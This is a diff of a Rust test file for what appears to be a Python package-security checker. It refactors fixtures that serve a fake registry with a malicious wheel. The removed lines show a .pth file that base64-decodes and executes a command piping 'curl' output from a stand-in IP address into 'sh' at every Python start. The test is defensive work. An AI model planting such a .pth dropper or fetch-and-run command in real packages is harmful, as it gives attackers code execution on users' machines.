@@ -6,8 +6,7 @@
 
 mod common;
 
-use base64::Engine;
-use common::fixtures::{both, env_for, json_of, package, run};
+use common::fixtures::{both, env_for, json_of, package, pth_dropper, run, simple_page, wheel};
 use common::loopback::Loopback;
 use serde_json::json;
 use sha2::{Digest, Sha256};
@@ -15,39 +14,11 @@ use sha2::{Digest, Sha256};
 const WHEEL: &str = "wheeldemo-1.0-py3-none-any.whl";
 const SDIST: &str = "wheeldemo-1.0.tar.gz";
 
-/// A wheel whose RECORD lists its files.
-fn wheel(name: &str, version: &str, files: &[(&str, &[u8])]) -> Vec<u8> {
-    let info = format!("{name}-{version}.dist-info");
-    let mut all: Vec<(String, Vec<u8>)> = files
-        .iter()
-        .map(|(p, d)| ((*p).to_owned(), d.to_vec()))
-        .collect();
-    all.push((
-        format!("{info}/METADATA"),
-        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: demo\n")
-            .into_bytes(),
-    ));
-    all.push((
-        format!("{info}/WHEEL"),
-        b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
-    ));
-    let mut record = String::new();
-    for (p, d) in &all {
-        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(d));
-        record.push_str(&format!("{p},sha256={digest},{}\n", d.len()));
-    }
-    record.push_str(&format!("{info}/RECORD,,\n"));
-    all.push((format!("{info}/RECORD"), record.into_bytes()));
-    common::zip(&all)
-}
-
 /// `wheeldemo` 0.9, clean, and 1.0: a clean sdist, and a wheel whose `.pth` runs a
 /// decoded download at every interpreter start. Returns 1.0's wheel's sha256.
 fn registry(server: &Loopback) -> String {
     let init: &[u8] = b"def hello():\n    return 'hi'\n";
-    let payload = base64::engine::general_purpose::STANDARD
-        .encode("import os; os.system('curl -s http://203.0.113.9/x | sh')");
-    let pth = format!("import base64; exec(base64.b64decode('{payload}'))\n");
+    let pth = pth_dropper();
     let mut files = Vec::new();
     let mut digest = String::new();
     for (version, at, bad) in [
@@ -86,12 +57,7 @@ fn registry(server: &Loopback) -> String {
                               "upload-time": at}));
         }
     }
-    let page = json!({"meta": {"api-version": "1.1"}, "name": "wheeldemo", "files": files});
-    server.route(
-        "/simple/wheeldemo/",
-        "application/vnd.pypi.simple.v1+json",
-        serde_json::to_vec(&page).unwrap(),
-    );
+    simple_page(server, "/simple/wheeldemo/", "wheeldemo", files);
     digest
 }
 
